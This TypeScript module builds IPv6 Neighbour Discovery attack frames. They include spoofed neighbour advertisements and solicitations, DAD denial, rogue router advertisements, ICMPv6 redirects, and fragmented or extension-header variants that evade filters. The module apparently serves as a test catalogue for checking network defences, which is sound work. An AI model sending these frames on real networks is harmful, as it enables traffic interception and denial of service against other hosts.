import { addressBytes, fragment, NEXT, number, options, solicitedNode, zeros } from './frame-bytes.ts'
import type { Bytes } from './frame-bytes.ts'
import {
  ALL_NODES,
  fragments,
  frame6,
  linkOption,
  local,
  ND,
  neighbour,
  neighbourFrame,
} from './frame-parts.ts'
import type { Build, Parties } from './frame-parts.ts'

type Attacks = Readonly<Record<string, Build>>

const OVERRIDE = 0x20
const SOLICITED = 0x40

function advertised(flags: number, target: string, mac: string): Bytes {
  return [flags, 0, 0, 0, ...addressBytes(target), ...linkOption(2, mac)]
}

function solicited(target: string, mac?: string): Bytes {
  return [0, 0, 0, 0, ...addressBytes(target), ...(mac === undefined ? [] : linkOption(1, mac))]
}

/** A router for half an hour, and a prefix to make addresses in. */
function router({ sender }: Parties): Bytes {
  const prefix = [
    3,
    4,
    64,
    0xc0,
    ...number(3600, 4),
    ...number(3600, 4),
    0,
    0,
    0,
    0,
    ...addressBytes('2001:db8:bad::'),
  ]
  return [64, 0, ...number(1800, 2), ...zeros(8), ...linkOption(1, sender.mac), ...prefix]
}

/** An advertisement of the victim's address, behind one options header. */
function hidden(next: number, cut?: number): Build {
  return (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: sender.ipv6, to: receiver.ipv6 }
    const inner = neighbour(ends, ND.neighbourAdvertise, advertised(OVERRIDE, victim.ipv6, sender.mac), mark)
    const payload = options(NEXT.icmpv6, mark, inner)
    const packet = { ...ends, next, hops: 255 }
    return cut === undefined ? [frame6(all, packet, payload)] : fragments(all, packet, payload, [cut])
  }
}

const ADVERTISE: Attacks = {
  'neighbour advertisement for another': (all, mark) => {
    const { sender, receiver, victim } = all
    const body = advertised(OVERRIDE | SOLICITED, victim.ipv6, sender.mac)
    const ends = { from: sender.ipv6, to: receiver.ipv6 }
    return [neighbourFrame(all, ends, ND.neighbourAdvertise, body, mark)]
  },
  'unsolicited neighbour advertisement for another': (all, mark) => {
    const { sender, victim } = all
    const ends = { from: local(sender), to: ALL_NODES }
    const body = advertised(OVERRIDE, victim.ipv6, sender.mac)
    return [neighbourFrame(all, ends, ND.neighbourAdvertise, body, mark)]
  },
  'neighbour advertisement for the link-local of another': (all, mark) => {
    const { sender, victim } = all
    const ends = { from: local(sender), to: ALL_NODES }
    const body = advertised(OVERRIDE, local(victim), sender.mac)
    return [neighbourFrame(all, ends, ND.neighbourAdvertise, body, mark)]
  },
  'neighbour advertisement from another': (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: victim.ipv6, to: receiver.ipv6 }
    const body = advertised(OVERRIDE, victim.ipv6, sender.mac)
    return [neighbourFrame(all, ends, ND.neighbourAdvertise, body, mark)]
  },
  'neighbour advertisement hop by hop': hidden(NEXT.hopByHop),
  'neighbour advertisement behind options': hidden(NEXT.destinationOptions),
  'neighbour advertisement in fragments': hidden(NEXT.destinationOptions, 16),
  // What stands before the fragment header is in every fragment: there the mark is.
  'neighbour advertisement whose address is in the second fragment': (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: sender.ipv6, to: receiver.ipv6 }
    const body = advertised(OVERRIDE, victim.ipv6, sender.mac)
    const whole = neighbour(ends, ND.neighbourAdvertise, body, zeros(8))
    const packet = { ...ends, next: NEXT.hopByHop, hops: 255 }
    return [
      fragment(NEXT.icmpv6, 0, true, whole.slice(0, 8)),
      fragment(NEXT.icmpv6, 8, false, whole.slice(8)),
    ].map((piece) => frame6(all, packet, options(NEXT.fragment, mark, piece)))
  },
  // One fragment that is the whole packet (RFC 6946).
  'neighbour advertisement in one fragment': (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: sender.ipv6, to: receiver.ipv6 }
    const body = advertised(OVERRIDE, victim.ipv6, sender.mac)
    const packet = { ...ends, next: NEXT.icmpv6, hops: 255 }
    return fragments(all, packet, neighbour(ends, ND.neighbourAdvertise, body, mark), [])
  },
}

const SOLICIT: Attacks = {
  'neighbour solicitation in the name of another': (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: victim.ipv6, to: solicitedNode(receiver.ipv6) }
    return [neighbourFrame(all, ends, ND.neighbourSolicit, solicited(receiver.ipv6, sender.mac), mark)]
  },
  'neighbour solicitation from the link-local of another': (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: local(victim), to: receiver.ipv6 }
    return [neighbourFrame(all, ends, ND.neighbourSolicit, solicited(receiver.ipv6, sender.mac), mark)]
  },
  // Keeps another from taking its address into use (RFC 4862, 5.4.3).
  'duplicate address detection for an address of another': (all, mark) => {
    const ends = { from: '::', to: solicitedNode(all.receiver.ipv6) }
    return [neighbourFrame(all, ends, ND.neighbourSolicit, solicited(all.receiver.ipv6), mark)]
  },
}

const ROUTER: Attacks = {
  'router advertisement': (all, mark) => [
    neighbourFrame(all, { from: local(all.sender), to: ALL_NODES }, ND.advertise, router(all), mark),
  ],
  'router advertisement in fragments': (all, mark) => {
    const ends = { from: local(all.sender), to: ALL_NODES }
    const inner = neighbour(ends, ND.advertise, router(all), mark)
    const packet = { ...ends, next: NEXT.destinationOptions, hops: 255 }
    return fragments(all, packet, options(NEXT.icmpv6, mark, inner), [16])
  },
  'icmpv6 redirect': (all, mark) => {
    const { sender, receiver, victim } = all
    const ends = { from: local(sender), to: receiver.ipv6 }
    const where = [...addressBytes(local(sender)), ...addressBytes(victim.ipv6)]
    return [
      neighbourFrame(all, ends, ND.redirect, [0, 0, 0, 0, ...where, ...linkOption(2, sender.mac)], mark),
    ]
  },
}

/** What abuses Neighbour Discovery. */
export const NEIGHBOUR_ATTACKS: Attacks = { ...ADVERTISE, ...SOLICIT, ...ROUTER }
